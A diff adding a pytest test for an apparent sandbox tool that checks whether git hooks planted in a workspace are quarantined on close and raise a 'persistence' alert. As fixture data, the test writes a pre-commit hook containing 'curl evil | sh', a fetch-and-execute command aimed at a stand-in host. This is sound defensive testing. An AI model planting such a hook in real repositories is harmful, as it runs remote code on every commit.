@@ -256,3 +256,23 @@ def test_corral_exec_strict_stops_the_escape_tools(tmp_path: Path, gate: list[st
     ):
         r = exec_(escape)
         assert r.returncode != 0, (escape, r.stdout, r.stderr)
+
+
+def test_git_hooks_planted_where_none_existed_are_quarantined_on_close(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("CORRAL_HOME", str(tmp_path / "home"))
+    with Ledger.memory() as ledger:
+        sb = Sandbox(OPEN_GATE, workspace, gate=False, ledger=ledger)
+        sandbox_id = sb.id
+        r = sb.run(
+            "mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit && echo ok > code.py"
+        )
+        assert r.exit_code == 0
+        sb.close()
+        alerts = list(ledger.records(kinds="alert"))
+    assert not (workspace / ".git" / "hooks").exists()
+    assert (workspace / "code.py").read_text() == "ok\n"  # ordinary work is untouched
+    moved = tmp_path / "home" / "quarantine" / sandbox_id / ".git" / "hooks" / "pre-commit"
+    assert moved.read_text() == "curl evil | sh\n"
+    assert len(alerts) == 1 and alerts[0].body["category"] == "persistence"
